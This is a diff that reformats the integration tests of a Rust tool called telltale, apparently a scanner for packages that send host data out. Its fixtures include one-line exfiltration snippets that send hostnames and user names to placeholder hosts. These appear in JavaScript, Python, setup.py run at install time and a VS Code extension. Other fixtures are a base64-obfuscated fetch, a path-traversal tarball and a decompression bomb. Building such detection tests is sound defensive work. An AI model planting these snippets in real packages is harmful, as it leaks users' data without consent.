@@ -16,14 +16,33 @@ fn write(dir: &std::path::Path, name: &str, body: &[u8]) {
 #[test]
 fn exit_codes_follow_fail_on() {
     let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "index.js", b"const os = require('os'); require('dns').lookup(os.hostname() + '.x.top', () => {});");
+    write(
+        dir.path(),
+        "index.js",
+        b"const os = require('os'); require('dns').lookup(os.hostname() + '.x.top', () => {});",
+    );
     let high = telltale().args(["scan"]).arg(dir.path()).output().unwrap();
-    assert_eq!(high.status.code(), Some(1), "{}", String::from_utf8_lossy(&high.stdout));
-    let crit = telltale().args(["scan", "--fail-on", "critical"]).arg(dir.path()).output().unwrap();
+    assert_eq!(
+        high.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&high.stdout)
+    );
+    let crit = telltale()
+        .args(["scan", "--fail-on", "critical"])
+        .arg(dir.path())
+        .output()
+        .unwrap();
     assert_eq!(crit.status.code(), Some(0));
-    let usage = telltale().args(["scan", "--format", "yaml", "x"]).output().unwrap();
+    let usage = telltale()
+        .args(["scan", "--format", "yaml", "x"])
+        .output()
+        .unwrap();
     assert_eq!(usage.status.code(), Some(2));
-    let missing = telltale().args(["scan", "/nonexistent/telltale/x"]).output().unwrap();
+    let missing = telltale()
+        .args(["scan", "/nonexistent/telltale/x"])
+        .output()
+        .unwrap();
     assert_eq!(missing.status.code(), Some(2));
 }
 
@@ -34,7 +53,20 @@ fn json_findings_have_the_contract_fields() {
     let (_, doc) = scan_json([dir.path()]);
     assert_eq!(doc["schema_version"], 1);
     let f = &doc["targets"][0]["findings"][0];
-    for key in ["rule", "name", "category", "severity", "file", "line", "column", "offset", "message", "evidence", "countries", "endpoints"] {
+    for key in [
+        "rule",
+        "name",
+        "category",
+        "severity",
+        "file",
+        "line",
+        "column",
+        "offset",
+        "message",
+        "evidence",
+        "countries",
+        "endpoints",
+    ] {
         assert!(f.get(key).is_some(), "missing {key} in {f}");
     }
     assert_eq!(f["countries"][0], "BY");
@@ -53,8 +85,14 @@ fn label_comes_first_in_text_and_names_what_is_sent() {
     let label_at = text.find("privacy label:").expect("label printed");
     let first_finding = text.find("TT102").expect("exfiltration finding");
     assert!(label_at < first_finding, "{text}");
-    assert!(text.contains("user name (os.userInfo().username), SENT"), "{text}");
-    assert!(text.contains("api.mixpanel.com [receives-data] — Mixpanel"), "{text}");
+    assert!(
+        text.contains("user name (os.userInfo().username), SENT"),
+        "{text}"
+    );
+    assert!(
+        text.contains("api.mixpanel.com [receives-data] — Mixpanel"),
+        "{text}"
+    );
 }
 
 #[test]
@@ -71,13 +109,46 @@ fn send_before_the_opt_out_check_is_reported() {
     assert_eq!(send["sent_before_check"], true, "{send}");
     let opt_out = &target["label"]["opt_outs"][0];
     assert_eq!(opt_out["setting"], "DO_NOT_TRACK");
-    assert_eq!(opt_out["product"], serde_json::Value::Null, "a convention of many products: {opt_out}");
-    assert!(opt_out["sends_before_check"].as_array().unwrap().iter().any(|c| c.as_str().unwrap_or("").contains("track at byte")), "{opt_out}");
-    let tt701: Vec<&serde_json::Value> = target["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "TT701").collect();
-    assert!(tt701.iter().any(|f| f["message"].as_str().unwrap_or("").contains("before the opt-out check runs")), "{tt701:?}");
-    let text = String::from_utf8(telltale().arg("scan").arg(dir.path()).output().unwrap().stdout).unwrap();
+    assert_eq!(
+        opt_out["product"],
+        serde_json::Value::Null,
+        "a convention of many products: {opt_out}"
+    );
+    assert!(
+        opt_out["sends_before_check"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|c| c.as_str().unwrap_or("").contains("track at byte")),
+        "{opt_out}"
+    );
+    let tt701: Vec<&serde_json::Value> = target["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "TT701")
+        .collect();
+    assert!(
+        tt701.iter().any(|f| f["message"]
+            .as_str()
+            .unwrap_or("")
+            .contains("before the opt-out check runs")),
+        "{tt701:?}"
+    );
+    let text = String::from_utf8(
+        telltale()
+            .arg("scan")
+            .arg(dir.path())
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap();
     assert!(text.contains("1 sent before the opt-out check"), "{text}");
-    assert!(text.contains("sent before the check: a.js: track at byte"), "{text}");
+    assert!(
+        text.contains("sent before the check: a.js: track at byte"),
+        "{text}"
+    );
 }
 
 #[test]
@@ -88,8 +159,17 @@ fn hostile_inputs_give_errors_not_panics() {
     gz.write_all(&vec![b'a'; 100_000]).unwrap();
     let bytes = gz.finish().unwrap();
     write(dir.path(), "trunc.tgz", &bytes[..bytes.len() / 2]);
-    let out = telltale().args(["scan"]).arg(dir.path().join("trunc.tgz")).output().unwrap();
-    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
+    let out = telltale()
+        .args(["scan"])
+        .arg(dir.path().join("trunc.tgz"))
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(2),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     assert!(String::from_utf8_lossy(&out.stderr).contains("error"));
 
     // Path traversal inside a tarball: the entry name is written into the header by hand.
@@ -103,14 +183,24 @@ fn hostile_inputs_give_errors_not_panics() {
     builder.append(&header, &b"x=1"[..]).unwrap();
     write(dir.path(), "evil.tar", &builder.into_inner().unwrap());
     let (_, doc) = scan_json([dir.path().join("evil.tar"), dir.path().join("trunc.tgz")]);
-    assert!(doc["targets"][0]["error"].as_str().unwrap().contains("escapes"), "{doc}");
+    assert!(
+        doc["targets"][0]["error"]
+            .as_str()
+            .unwrap()
+            .contains("escapes"),
+        "{doc}"
+    );
     assert!(!dir.path().parent().unwrap().join("evil.js").exists());
 
     // A bomb against a low limit.
     let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
     gz.write_all(&vec![0u8; 20 << 20]).unwrap();
     write(dir.path(), "bomb.tgz", &gz.finish().unwrap());
-    let out = telltale().args(["scan", "--max-archive-bytes", "1000000"]).arg(dir.path().join("bomb.tgz")).output().unwrap();
+    let out = telltale()
+        .args(["scan", "--max-archive-bytes", "1000000"])
+        .arg(dir.path().join("bomb.tgz"))
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(2));
 }
 
@@ -119,7 +209,11 @@ fn odd_files_are_survived() {
     let dir = tempfile::tempdir().unwrap();
     write(dir.path(), "empty.js", b"");
     write(dir.path(), "binary.js", &[0u8, 159, 146, 150, 0, 1, 2]);
-    write(dir.path(), "invalid_utf8.js", b"var a = '\xff\xfe'; require('os').hostname();");
+    write(
+        dir.path(),
+        "invalid_utf8.js",
+        b"var a = '\xff\xfe'; require('os').hostname();",
+    );
     write(dir.path(), "broken.js", b"function ( { [[[ ");
     let deep = format!("var x = {}1{};", "[".repeat(10_000), "]".repeat(10_000));
     write(dir.path(), "deep.js", deep.as_bytes());
@@ -128,10 +222,20 @@ fn odd_files_are_survived() {
     big.extend(b"\"; fetch('https://x.example/?h=' + require('os').hostname());");
     write(dir.path(), "big.min.js", &big);
     let (out, doc) = scan_json([dir.path()]);
-    assert!(out.status.code() == Some(0) || out.status.code() == Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.code() == Some(0) || out.status.code() == Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let findings = doc["targets"][0]["findings"].as_array().unwrap();
-    let big_flow = findings.iter().find(|f| f["file"] == "big.min.js" && f["category"] == "exfiltration").expect("flow in the 50 MB file");
-    assert!(big_flow["snippet"].as_str().unwrap().len() < 200, "snippet is a window, not the line");
+    let big_flow = findings
+        .iter()
+        .find(|f| f["file"] == "big.min.js" && f["category"] == "exfiltration")
+        .expect("flow in the 50 MB file");
+    assert!(
+        big_flow["snippet"].as_str().unwrap().len() < 200,
+        "snippet is a window, not the line"
+    );
 }
 
 #[test]
@@ -139,17 +243,37 @@ fn nesting_past_the_worker_stack_is_analysed_not_fatal() {
     // 300 000 levels overflowed the 256 MiB worker stack (found by fuzzing at 8 MiB); such
     // code now runs on a thread with a stack to match, and what follows it is still found.
     let dir = tempfile::tempdir().unwrap();
-    let code = format!("var x = {}1{};\nfetch('https://x.example/?h=' + require('os').hostname());", "(".repeat(300_000), ")".repeat(300_000));
+    let code = format!(
+        "var x = {}1{};\nfetch('https://x.example/?h=' + require('os').hostname());",
+        "(".repeat(300_000),
+        ")".repeat(300_000)
+    );
     write(dir.path(), "deep.js", code.as_bytes());
-    let strings = format!("var s = '{}'; require('os').hostname();", "[".repeat(3_000_000));
+    let strings = format!(
+        "var s = '{}'; require('os').hostname();",
+        "[".repeat(3_000_000)
+    );
     write(dir.path(), "brackets_in_a_string.js", strings.as_bytes());
     let (out, doc) = scan_json([dir.path()]);
-    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let findings = doc["targets"][0]["findings"].as_array().unwrap();
-    assert!(findings.iter().any(|f| f["file"] == "deep.js" && f["category"] == "exfiltration"), "{findings:?}");
+    assert!(
+        findings
+            .iter()
+            .any(|f| f["file"] == "deep.js" && f["category"] == "exfiltration"),
+        "{findings:?}"
+    );
     // Past 2 000 000 levels (counted naively, strings included) the file is reported unparsed.
     let warnings = doc["targets"][0]["warnings"].to_string();
-    assert!(warnings.contains("brackets_in_a_string.js") && warnings.contains("nest"), "{warnings}");
+    assert!(
+        warnings.contains("brackets_in_a_string.js") && warnings.contains("nest"),
+        "{warnings}"
+    );
 }
 
 #[test]
@@ -157,23 +281,60 @@ fn odd_python_files_are_survived() {
     let dir = tempfile::tempdir().unwrap();
     write(dir.path(), "empty.py", b"");
     write(dir.path(), "binary.py", &[0u8, 159, 146, 150, 0, 1, 2]);
-    write(dir.path(), "invalid_utf8.py", b"x = '\xff\xfe'\nimport socket\nsocket.gethostname()\n");
+    write(
+        dir.path(),
+        "invalid_utf8.py",
+        b"x = '\xff\xfe'\nimport socket\nsocket.gethostname()\n",
+    );
     write(dir.path(), "broken.py", b"def (:\n  ))))\n");
-    write(dir.path(), "py2.py", b"print 'x'\nexcept Exception, e:\n  pass\n");
-    write(dir.path(), "neg.py", format!("x = {}1\n", "-".repeat(1_000_000)).as_bytes());
-    write(dir.path(), "lists.py", format!("x = {}{}\n", "[".repeat(50_000), "]".repeat(50_000)).as_bytes());
-    write(dir.path(), "defs.py", (0..2_000).map(|i| format!("{}def f():\n", " ".repeat(i))).chain([format!("{}pass\n", " ".repeat(2_000))]).collect::<String>().as_bytes());
-    write(dir.path(), "concat.py", format!("x = {}\n", vec!["'a'"; 200_000].join(" + ")).as_bytes());
+    write(
+        dir.path(),
+        "py2.py",
+        b"print 'x'\nexcept Exception, e:\n  pass\n",
+    );
+    write(
+        dir.path(),
+        "neg.py",
+        format!("x = {}1\n", "-".repeat(1_000_000)).as_bytes(),
+    );
+    write(
+        dir.path(),
+        "lists.py",
+        format!("x = {}{}\n", "[".repeat(50_000), "]".repeat(50_000)).as_bytes(),
+    );
+    write(
+        dir.path(),
+        "defs.py",
+        (0..2_000)
+            .map(|i| format!("{}def f():\n", " ".repeat(i)))
+            .chain([format!("{}pass\n", " ".repeat(2_000))])
+            .collect::<String>()
+            .as_bytes(),
+    );
+    write(
+        dir.path(),
+        "concat.py",
+        format!("x = {}\n", vec!["'a'"; 200_000].join(" + ")).as_bytes(),
+    );
     let mut big = b"import socket, requests\ns = '".to_vec();
     big.extend(std::iter::repeat_n(b'a', 20 << 20));
     big.extend(b"'\nrequests.post('https://x.example', data=socket.gethostname())\n");
     write(dir.path(), "big.py", &big);
     let (out, doc) = scan_json([dir.path()]);
-    assert!(out.status.code() == Some(0) || out.status.code() == Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.code() == Some(0) || out.status.code() == Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let findings = doc["targets"][0]["findings"].as_array().unwrap();
-    assert!(findings.iter().any(|f| f["file"] == "big.py" && f["category"] == "exfiltration"));
+    assert!(findings
+        .iter()
+        .any(|f| f["file"] == "big.py" && f["category"] == "exfiltration"));
     let warnings = doc["targets"][0]["warnings"].to_string();
-    assert!(warnings.contains("broken.py") && warnings.contains("nested deeper"), "{warnings}");
+    assert!(
+        warnings.contains("broken.py") && warnings.contains("nested deeper"),
+        "{warnings}"
+    );
 }
 
 #[test]
@@ -183,27 +344,63 @@ fn python_wheels_and_sdists_load() {
     let code = b"import socket, requests\nrequests.post('https://x.example.top', data=socket.gethostname())\n";
     // A wheel is a zip named .whl.
     let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
-    w.start_file("pkg/__init__.py", zip::write::SimpleFileOptions::default()).unwrap();
+    w.start_file("pkg/__init__.py", zip::write::SimpleFileOptions::default())
+        .unwrap();
     w.write_all(code).unwrap();
-    w.start_file("pkg-1.0.dist-info/entry_points.txt", zip::write::SimpleFileOptions::default()).unwrap();
-    w.write_all(b"[console_scripts]\npkg-cli = pkg.cli:main\n").unwrap();
-    write(dir.path(), "pkg-1.0-py3-none-any.whl", &w.finish().unwrap().into_inner());
+    w.start_file(
+        "pkg-1.0.dist-info/entry_points.txt",
+        zip::write::SimpleFileOptions::default(),
+    )
+    .unwrap();
+    w.write_all(b"[console_scripts]\npkg-cli = pkg.cli:main\n")
+        .unwrap();
+    write(
+        dir.path(),
+        "pkg-1.0-py3-none-any.whl",
+        &w.finish().unwrap().into_inner(),
+    );
     // An sdist whose setup.py sends at install time.
-    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
+    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
+        Vec::new(),
+        flate2::Compression::default(),
+    ));
     let mut header = tar::Header::new_gnu();
     header.set_size(code.len() as u64);
     header.set_mode(0o644);
-    tar.append_data(&mut header, "pkg-1.0/setup.py", &code[..]).unwrap();
-    write(dir.path(), "pkg-1.0.tar.gz", &tar.into_inner().unwrap().finish().unwrap());
-    let (_, doc) = scan_json([dir.path().join("pkg-1.0-py3-none-any.whl"), dir.path().join("pkg-1.0.tar.gz")]);
-    let exfil = |t: usize| doc["targets"][t]["findings"].as_array().unwrap().iter().find(|f| f["category"] == "exfiltration").cloned().unwrap_or_default();
+    tar.append_data(&mut header, "pkg-1.0/setup.py", &code[..])
+        .unwrap();
+    write(
+        dir.path(),
+        "pkg-1.0.tar.gz",
+        &tar.into_inner().unwrap().finish().unwrap(),
+    );
+    let (_, doc) = scan_json([
+        dir.path().join("pkg-1.0-py3-none-any.whl"),
+        dir.path().join("pkg-1.0.tar.gz"),
+    ]);
+    let exfil = |t: usize| {
+        doc["targets"][t]["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["category"] == "exfiltration")
+            .cloned()
+            .unwrap_or_default()
+    };
     assert_eq!(exfil(0)["file"], "pkg/__init__.py", "{doc}");
     assert_eq!(exfil(0)["severity"], "high");
     assert_eq!(exfil(1)["file"], "pkg-1.0/setup.py");
-    assert_eq!(exfil(1)["severity"], "critical", "setup.py runs at install time");
+    assert_eq!(
+        exfil(1)["severity"],
+        "critical",
+        "setup.py runs at install time"
+    );
     assert_eq!(exfil(1)["install_time"], true);
     // The wheel's console script is in its label: what runs when the user types the command.
-    assert_eq!(doc["targets"][0]["label"]["activation"][0], "console script pkg-cli runs pkg.cli:main", "{doc}");
+    assert_eq!(
+        doc["targets"][0]["label"]["activation"][0], "console script pkg-cli runs pkg.cli:main",
+        "{doc}"
+    );
 }
 
 #[test]
@@ -212,19 +409,40 @@ fn rules_and_explain() {
     assert!(String::from_utf8_lossy(&out.stdout).contains("TT201"));
     let out = telltale().args(["explain", "TT201"]).output().unwrap();
     assert!(String::from_utf8_lossy(&out.stdout).contains("Why it matters"));
-    assert_eq!(telltale().args(["explain", "TT999"]).output().unwrap().status.code(), Some(2));
+    assert_eq!(
+        telltale()
+            .args(["explain", "TT999"])
+            .output()
+            .unwrap()
+            .status
+            .code(),
+        Some(2)
+    );
 }
 
 /// `telltale scan --format json` over the targets: the process output and the parsed report.
-fn scan_json<P: AsRef<std::ffi::OsStr>>(targets: impl IntoIterator<Item = P>) -> (std::process::Output, serde_json::Value) {
-    let out = telltale().args(["scan", "--format", "json"]).args(targets).output().unwrap();
-    let doc = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
+fn scan_json<P: AsRef<std::ffi::OsStr>>(
+    targets: impl IntoIterator<Item = P>,
+) -> (std::process::Output, serde_json::Value) {
+    let out = telltale()
+        .args(["scan", "--format", "json"])
+        .args(targets)
+        .output()
+        .unwrap();
+    let doc = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
     (out, doc)
 }
 
 fn flows_in(dir: &std::path::Path) -> Vec<serde_json::Value> {
     let (_, doc) = scan_json([dir]);
-    doc["targets"][0]["findings"].as_array().unwrap().iter().filter(|f| f["flow"].as_array().is_some_and(|s| !s.is_empty())).cloned().collect()
+    doc["targets"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["flow"].as_array().is_some_and(|s| !s.is_empty()))
+        .cloned()
+        .collect()
 }
 
 #[test]
@@ -235,12 +453,24 @@ fn flows_cross_package_local_modules() {
     write(dir.path(), "package/lib/send.js", b"const https = require('https');\nmodule.exports = function send(body) {\n  https.request({ host: 't.example.com', method: 'POST' }).end(body);\n};\n");
     write(dir.path(), "package/index.js", b"const id = require('./lib/id');\nconst send = require('./lib/send');\nfetch('https://t.example.com/?h=' + id.getId());\nsend(JSON.stringify({ u: process.env.USER }));\n");
     let flows = flows_in(dir.path());
-    let index = flows.iter().find(|f| f["file"] == "package/index.js").unwrap_or_else(|| panic!("{flows:#?}"));
+    let index = flows
+        .iter()
+        .find(|f| f["file"] == "package/index.js")
+        .unwrap_or_else(|| panic!("{flows:#?}"));
     let first = index["flow"][0]["what"].as_str().unwrap();
-    assert!(first.contains("os.hostname() at package/lib/id.js:2:"), "{first}");
-    let send = flows.iter().find(|f| f["file"] == "package/lib/send.js").unwrap_or_else(|| panic!("{flows:#?}"));
+    assert!(
+        first.contains("os.hostname() at package/lib/id.js:2:"),
+        "{first}"
+    );
+    let send = flows
+        .iter()
+        .find(|f| f["file"] == "package/lib/send.js")
+        .unwrap_or_else(|| panic!("{flows:#?}"));
     let first = send["flow"][0]["what"].as_str().unwrap();
-    assert!(first.contains("at package/index.js:4:") && first.contains("passed to ./lib/send()"), "{first}");
+    assert!(
+        first.contains("at package/index.js:4:") && first.contains("passed to ./lib/send()"),
+        "{first}"
+    );
 }
 
 #[test]
@@ -256,19 +486,41 @@ fn unrelated_exports_do_not_link() {
 fn obfuscation_evidence_names_where_the_encoded_literal_is() {
     let dir = tempfile::tempdir().unwrap();
     // "https://prov.example.net/c" in base64, written on line 2 and decoded on line 3.
-    let src = "const pad = 0;\nconst k =   'aHR0cHM6Ly9wcm92LmV4YW1wbGUubmV0L2M=';\nfetch(atob(k));\n";
+    let src =
+        "const pad = 0;\nconst k =   'aHR0cHM6Ly9wcm92LmV4YW1wbGUubmV0L2M=';\nfetch(atob(k));\n";
     write(dir.path(), "a.js", src.as_bytes());
     let col = src.lines().nth(1).unwrap().find('\'').unwrap() + 1;
     let provenance = format!("base64 → literal at 2:{col}");
     let (_, doc) = scan_json([dir.path()]);
     let findings = doc["targets"][0]["findings"].as_array().unwrap();
     for rule in ["TT401", "TT303"] {
-        let f = findings.iter().find(|f| f["rule"] == rule).unwrap_or_else(|| panic!("no {rule} in {findings:#?}"));
+        let f = findings
+            .iter()
+            .find(|f| f["rule"] == rule)
+            .unwrap_or_else(|| panic!("no {rule} in {findings:#?}"));
         assert_eq!(f["line"], 3, "{f}");
-        assert!(f["evidence"].as_array().unwrap().iter().any(|e| e == &provenance), "{rule}: {f}");
+        assert!(
+            f["evidence"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|e| e == &provenance),
+            "{rule}: {f}"
+        );
     }
-    let text = String::from_utf8(telltale().arg("scan").arg(dir.path()).output().unwrap().stdout).unwrap();
-    assert!(text.contains(&format!("= evidence: {provenance}")), "{text}");
+    let text = String::from_utf8(
+        telltale()
+            .arg("scan")
+            .arg(dir.path())
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap();
+    assert!(
+        text.contains(&format!("= evidence: {provenance}")),
+        "{text}"
+    );
 }
 
 #[test]
@@ -280,12 +532,24 @@ fn vsix_extension_activation_is_in_the_label() {
     zip.start_file("extension/package.json", opts).unwrap();
     zip.write_all(br#"{"name":"x","engines":{"vscode":"^1.80.0"},"main":"./out/extension.js","activationEvents":["onStartupFinished"]}"#).unwrap();
     zip.start_file("extension/out/extension.js", opts).unwrap();
-    zip.write_all(b"const os = require('os'); fetch('https://t.example.com/?u=' + os.userInfo().username);").unwrap();
+    zip.write_all(
+        b"const os = require('os'); fetch('https://t.example.com/?u=' + os.userInfo().username);",
+    )
+    .unwrap();
     zip.finish().unwrap();
     let (_, doc) = scan_json([&vsix]);
-    let activation = doc["targets"][0]["label"]["activation"][0].as_str().unwrap_or_else(|| panic!("{doc}"));
-    assert!(activation.contains("./out/extension.js runs at every VS Code start (onStartupFinished)"), "{activation}");
-    assert!(doc["targets"][0]["findings"].as_array().unwrap().iter().any(|f| f["file"] == "extension/out/extension.js" && f["category"] == "exfiltration"));
+    let activation = doc["targets"][0]["label"]["activation"][0]
+        .as_str()
+        .unwrap_or_else(|| panic!("{doc}"));
+    assert!(
+        activation.contains("./out/extension.js runs at every VS Code start (onStartupFinished)"),
+        "{activation}"
+    );
+    assert!(doc["targets"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|f| f["file"] == "extension/out/extension.js" && f["category"] == "exfiltration"));
 }
 
 #[test]
@@ -293,17 +557,39 @@ fn node_modules_gives_one_report_per_installed_package() {
     let dir = tempfile::tempdir().unwrap();
     let nm = dir.path().join("node_modules");
     let pkg = |rel: &str, name: &str, js: &str| {
-        write(&nm, &format!("{rel}/package.json"), format!(r#"{{"name":"{name}","version":"1.0.0"}}"#).as_bytes());
+        write(
+            &nm,
+            &format!("{rel}/package.json"),
+            format!(r#"{{"name":"{name}","version":"1.0.0"}}"#).as_bytes(),
+        );
         write(&nm, &format!("{rel}/index.js"), js.as_bytes());
     };
     pkg("a", "a", "module.exports = 1;");
-    pkg("@s/b", "@s/b", "require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
-    pkg("a/node_modules/c", "c", "fetch('https://t.example.com/?u=' + require('os').userInfo().username);");
+    pkg(
+        "@s/b",
+        "@s/b",
+        "require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});",
+    );
+    pkg(
+        "a/node_modules/c",
+        "c",
+        "fetch('https://t.example.com/?u=' + require('os').userInfo().username);",
+    );
     let (_, doc) = scan_json([&nm]);
     let targets = doc["targets"].as_array().unwrap();
     assert_eq!(targets.len(), 3, "{doc}");
-    let findings = |prefix: &str| targets.iter().find(|t| t["target"].as_str().unwrap().starts_with(prefix)).map(|t| t["findings"].as_array().unwrap().len()).unwrap_or_else(|| panic!("{prefix} in {doc}"));
-    assert_eq!(findings("a@1.0.0"), 0, "the nested package is its own report");
+    let findings = |prefix: &str| {
+        targets
+            .iter()
+            .find(|t| t["target"].as_str().unwrap().starts_with(prefix))
+            .map(|t| t["findings"].as_array().unwrap().len())
+            .unwrap_or_else(|| panic!("{prefix} in {doc}"))
+    };
+    assert_eq!(
+        findings("a@1.0.0"),
+        0,
+        "the nested package is its own report"
+    );
     assert!(findings("@s/b@1.0.0") > 0);
     assert!(findings("c@1.0.0") > 0);
 }
@@ -334,24 +620,57 @@ fn node_sea_executable_main_script_is_analysed() {
     let dir = tempfile::tempdir().unwrap();
     write(dir.path(), "app", &exe);
     let (_, doc) = scan_json([dir.path().join("app")]);
-    let findings = doc["targets"][0]["findings"].as_array().cloned().unwrap_or_default();
-    let exfil = findings.iter().find(|f| f["category"] == "exfiltration").unwrap_or_else(|| panic!("no exfiltration finding: {doc}"));
-    assert!(exfil["file"].as_str().unwrap().ends_with("app › main.js"), "{exfil}");
+    let findings = doc["targets"][0]["findings"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
+    let exfil = findings
+        .iter()
+        .find(|f| f["category"] == "exfiltration")
+        .unwrap_or_else(|| panic!("no exfiltration finding: {doc}"));
+    assert!(
+        exfil["file"].as_str().unwrap().ends_with("app › main.js"),
+        "{exfil}"
+    );
     assert_eq!(exfil["line"], 2, "{exfil}");
-    assert!(exfil["endpoints"].to_string().contains("collect.example-metrics.top"), "{exfil}");
+    assert!(
+        exfil["endpoints"]
+            .to_string()
+            .contains("collect.example-metrics.top"),
+        "{exfil}"
+    );
 }
 
 /// A SEA built as a V8 snapshot holds no source: coverage says so (incomplete, failing the
 /// default policy), and the binary's strings are still searched for endpoints.
 #[test]
 fn node_sea_snapshot_is_reported_as_not_analysed() {
-    let exe = sea_executable(2, &[b"main.js", b"\x00\x01snapshot https://snap.example-metrics.top/v1/t \x00"]);
+    let exe = sea_executable(
+        2,
+        &[
+            b"main.js",
+            b"\x00\x01snapshot https://snap.example-metrics.top/v1/t \x00",
+        ],
+    );
     let dir = tempfile::tempdir().unwrap();
     write(dir.path(), "app", &exe);
     let (out, doc) = scan_json([dir.path().join("app")]);
     let coverage = &doc["targets"][0]["coverage"];
     assert_eq!(coverage["complete"], false, "{doc}");
-    assert!(coverage["unanalysed"][0]["why"].as_str().unwrap().contains("snapshot"), "{coverage}");
-    assert_eq!(out.status.code(), Some(1), "incomplete coverage fails the default policy");
-    assert!(doc.to_string().contains("snap.example-metrics.top"), "{doc}");
+    assert!(
+        coverage["unanalysed"][0]["why"]
+            .as_str()
+            .unwrap()
+            .contains("snapshot"),
+        "{coverage}"
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "incomplete coverage fails the default policy"
+    );
+    assert!(
+        doc.to_string().contains("snap.example-metrics.top"),
+        "{doc}"
+    );
 }
